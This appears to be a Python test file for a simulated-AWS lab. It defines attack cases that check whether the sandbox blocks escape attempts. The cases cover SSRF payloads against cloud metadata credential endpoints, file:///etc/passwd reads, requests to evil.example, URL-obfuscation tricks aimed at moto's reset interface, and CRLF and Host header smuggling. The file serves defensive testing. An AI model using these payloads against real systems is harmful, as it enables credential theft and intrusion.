"""Attacks on the way to AWS: moto's own interface, metadata addresses, other hosts, files."""

from tests.labs.attacks.attack import Attack

# A request as the learner's process may make it, past boto3: the hook is in its own memory.
RAW = """
import boto3
from botocore.handlers import BUILTIN_HANDLERS
hook = next(entry[1] for entry in BUILTIN_HANDLERS if type(entry[1]).__name__ == 'Transport')
def ask(url, method='GET', headers=None, body=b'', **fields):
    header = {'operation': 'X', 'method': method, 'url': url, 'headers': headers or {}}
    answer, content = hook.line(header | {'source': ''} | fields, body)
    return answer.get('not_simulated') or (answer['status'], content[:100])
sqs = boto3.client('sqs')
sqs.create_queue(QueueName='mine')
def is_reset():
    return not sqs.list_queues().get('QueueUrls')
"""

PATHS = ("reset", "data.json", "seed?a=1", "config", "recorder/start-recording", "")
METADATA = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/",
)
FILES = (
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file://sqs.amazonaws.com/etc/passwd",
)
HOSTS = (
    "http://localhost:4566/",
    "http://127.0.0.1/",
    "http://[::1]/",
    "http://amazonaws.com.evil.example/",
    "http://evilamazonaws.com/",
    "http://sqs.us-east-1.amazonaws.com@evil.example/",
    "http://evil.example#sqs.amazonaws.com",
    "http://evil.example?.amazonaws.com",
    "https://amazonaws.com/",
    "ftp://evil.example/",
    "gopher://evil.example/",
    "//evil.example/",
    "",
    "x",
)
DISGUISES = (
    "http://MOTOAPI.AMAZONAWS.COM/moto-api/reset",
    "http://motoapi.amazonaws.com:80/moto-api/reset",
    "http://x@motoapi.amazonaws.com/moto-api/reset",
    "http://motoapi.amazonaws.com./moto-api/reset",
    "http://motoapi.amazonaws.com%2f@sqs.us-east-1.amazonaws.com/moto-api/reset",
    "http://motoapi.amazonaws.com:x@sqs.us-east-1.amazonaws.com/moto-api/reset",
    "http://sqs.us-east-1.amazonaws.com@motoapi.amazonaws.com/moto-api/reset",
    "http://motoapi.amazonaws.com\\\\@sqs.us-east-1.amazonaws.com/moto-api/reset",
    "http://moto\\tapi.amazonaws.com/moto-api/reset",
    "http://\\uff4dotoapi.amazonaws.com/moto-api/reset",
    "http://mot%6fapi.amazonaws.com/moto-api/reset",
    "http://sqs.us-east-1.amazonaws.com/../motoapi.amazonaws.com/moto-api/reset",
    "http://sqs.us-east-1.amazonaws.com//motoapi.amazonaws.com/moto-api/reset",
    "http://sqs.us-east-1.amazonaws.com/moto-api/reset",
    "http://motoapi.amazonaws.com.cn/moto-api/reset",
    "http://motoapi.c2s.ic.gov/moto-api/reset",
    "http://motoapi.amazonaws.com.motoapi.amazonaws.com/moto-api/reset",
)

ATTACKS = (
    Attack(
        "moto's interface by endpoint_url",
        RAW
        + """
for url in ('http://motoapi.amazonaws.com', 'https://motoapi.amazonaws.com/moto-api/reset'):
    client = boto3.client('s3', endpoint_url=url)
    tried('list', client.list_buckets)
    tried('post', lambda: client.put_object(Bucket='moto-api', Key='reset', Body=b''))
print(is_reset())
""",
        prints=(*["list NotSimulatedError", "post NotSimulatedError"] * 2, "False"),
    ),
    Attack(
        "moto's interface by requests of one's own",
        RAW
        + f"""
for path in {PATHS!r}:
    for method in ('GET', 'POST', 'PUT'):
        print(ask('http://motoapi.amazonaws.com/moto-api/' + path, method))
print(is_reset())
""",
        prints=(
            *["motoapi.amazonaws.com is not part of the simulated cloud."] * 3 * len(PATHS),
            "False",
        ),
    ),
    Attack(
        "moto's interface in disguise",
        RAW
        + f"""
for url in {DISGUISES!r}:
    try:
        found = str(ask(url, 'POST'))
    except Exception as error:
        found = type(error).__name__
    if 'not part of' not in found and 'not simulated' not in found:
        print(url, found)
print(is_reset())
""",
        prints=("False",),
    ),
    Attack(
        "metadata addresses",
        RAW
        + f"""
for url in {METADATA!r}:
    print('not part of' in str(ask(url)), is_reset())
from botocore.utils import IMDSFetcher, InstanceMetadataFetcher, ContainerMetadataFetcher
def fetch(host):
    return ContainerMetadataFetcher(sleep=lambda _: None).retrieve_uri('/v2/credentials')
tried('container', fetch, '')
os.environ['AWS_EC2_METADATA_DISABLED'] = 'false'
tried('instance', InstanceMetadataFetcher(timeout=1, num_attempts=1).retrieve_iam_role_credentials)
import urllib.request
def plain(url):
    try:
        return urllib.request.urlopen(url, timeout=2).read()
    except urllib.error.URLError as error:
        raise error.reason
for url in {METADATA[:3]!r}:
    tried('plain', plain, url)
""",
        prints=(
            *["True False"] * len(METADATA),
            "container MetadataRetrievalError",
            "instance {}",
            *["plain ENETUNREACH"] * 3,
        ),
    ),
    Attack(
        "metadata addresses by endpoint_url",
        RAW
        + f"""
for url in {METADATA!r}:
    tried('s3', boto3.client('s3', endpoint_url=url).list_buckets)
    tried('sts', boto3.client('sts', endpoint_url=url).get_caller_identity)
""",
        prints=("s3 NotSimulatedError", "sts NotSimulatedError") * len(METADATA),
    ),
    Attack(
        "files as endpoints",
        RAW
        + f"""
for url in {FILES!r}:
    tried('raw', ask, url)
    tried('s3', lambda: boto3.client('s3', endpoint_url=url).list_buckets())
import urllib.request
def plain(url):
    try:
        return urllib.request.urlopen(url).read()
    except urllib.error.URLError as error:
        print(error.reason)
tried('urllib', plain, 'file:///etc/passwd')
""",
        prints=(
            "raw  is not part of the simulated cloud.",
            "s3 ValueError",
            "raw localhost is not part of the simulated cloud.",
            "s3 EndpointResolutionError",
            "raw sqs.GET is not simulated.",
            "s3 EndpointResolutionError",
            "[Errno 2] No such file or directory: '/etc/passwd'",
            "urllib None",
        ),
    ),
    Attack(
        "other hosts",
        RAW
        + f"""
print({{ask(url).endswith('is not part of the simulated cloud.') for url in {HOSTS!r}}})
""",
        prints=("{True}",),
    ),
    Attack(
        "presigned addresses",
        RAW
        + """
import urllib.request
s3 = boto3.client('s3')
s3.create_bucket(Bucket='bucket')
s3.put_object(Bucket='bucket', Key='key', Body=b'mine')
url = s3.generate_presigned_url('get_object', {'Bucket': 'bucket', 'Key': 'key'})
print(ask(url)[1].decode())
for host in ('motoapi.amazonaws.com', '169.254.169.254', 'evil.example'):
    other = url.replace(url.split('/')[2], host)
    print(host, 'not part of' in ask(other))
""",
        prints=(
            "mine",
            "motoapi.amazonaws.com True",
            "169.254.169.254 True",
            "evil.example True",
        ),
    ),
    Attack(
        "smuggled headers",
        RAW
        + """
host = 'https://sqs.us-east-1.amazonaws.com/'
sign = {'Authorization': 'AWS4-HMAC-SHA256 Credential=AKIA/20250101/us-east-1/sqs/aws4_request'}
target = {'X-Amz-Target': 'AmazonSQS.ListQueues', 'Content-Type': 'application/x-amz-json-1.0'}
for extra in ({}, {'Host': 'motoapi.amazonaws.com'}, {'X-Forwarded-Host': 'motoapi.amazonaws.com'},
              {'X-Original-URL': '/moto-api/reset'}, {'X-HTTP-Method-Override': 'PUT'},
              {'Transfer-Encoding': 'chunked'}, {'Content-Length': '-1'},
              {'Expect': '100-continue'}, {'x': 'a\\r\\nHost: motoapi.amazonaws.com'}):
    answer = ask(host, 'POST', sign | target | extra, b'{}')
    print(*extra, 'mine' in str(answer))
print(is_reset())
""",
        prints=(
            "True",
            "Host True",
            "X-Forwarded-Host True",
            "X-Original-URL True",
            "X-HTTP-Method-Override True",
            "Transfer-Encoding True",
            "Content-Length True",
            "Expect True",
            "x False",
            "False",
        ),
    ),
    Attack(
        "another account by moto's own header",
        RAW
        + """
sign = {'Authorization': 'AWS4-HMAC-SHA256 Credential=AKIA/20250101/us-east-1/sqs/aws4_request',
        'X-Amz-Target': 'AmazonSQS.ListQueues', 'Content-Type': 'application/x-amz-json-1.0'}
for name in ('x-moto-account-id', 'X-Moto-Account-Id', 'X_Moto_Account_Id'):
    other = sign | {name: '999999999999'}
    answer = ask('https://sqs.us-east-1.amazonaws.com/', 'POST', other, b'{}')
    print('mine' in str(answer))
""",
        prints=("True", "True", "True"),
    ),
    Attack(
        "letting the account fetch",
        RAW
        + """
sns = boto3.client('sns')
topic = sns.create_topic(Name='t')['TopicArn']
for target in ('http://169.254.169.254/latest', 'http://127.0.0.1:6379/', 'https://evil.example/'):
    sns.subscribe(TopicArn=topic, Protocol=target.split(':')[0], Endpoint=target)
tried('sns', lambda: bool(sns.publish(TopicArn=topic, Message='x')))  # to nobody: all are pending
for url in ('file:///etc/passwd', 'http://169.254.169.254/', 'https://s3.amazonaws.com/x/y'):
    try:
        boto3.client('cloudformation').create_stack(StackName='s', TemplateURL=url)
        print('made')
    except Exception as error:
        print('root:' in str(error))
""",
        prints=("sns True", "False", "False", "False"),
    ),
)
